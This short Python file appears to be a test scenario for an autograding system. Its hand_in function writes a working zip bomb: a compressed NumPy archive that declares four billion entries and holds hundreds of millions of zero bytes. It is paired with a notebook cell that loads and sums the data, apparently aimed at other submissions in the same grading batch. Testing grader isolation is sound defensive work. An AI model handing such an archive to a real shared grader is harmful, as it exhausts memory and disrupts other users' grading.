"""A small archive is handed in that unpacks to four billion numbers."""

import io
import zipfile

kind = "zip bomb"
aims = "batch neighbour"
base = "half"
on_nbgrader = False
cells = {"exercise-2": 'def layer(X, W, b):\n    return np.load("data.npz")["numbers"].sum() + X + W + b'}


def hand_in(folder, path):
    header = io.BytesIO()
    shape = (2**32,)
    words = f"{{'descr': '|u1', 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
    header.write(b"\x93NUMPY\x01\x00" + len(words).to_bytes(2, "little") + words.encode())
    with (
        zipfile.ZipFile(folder / "data.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("numbers.npy", "w", force_zip64=True) as file,
    ):
        file.write(header.getvalue())
        for _ in range(40):  # 640 million of them are enough to show it
            file.write(bytes(2**24))
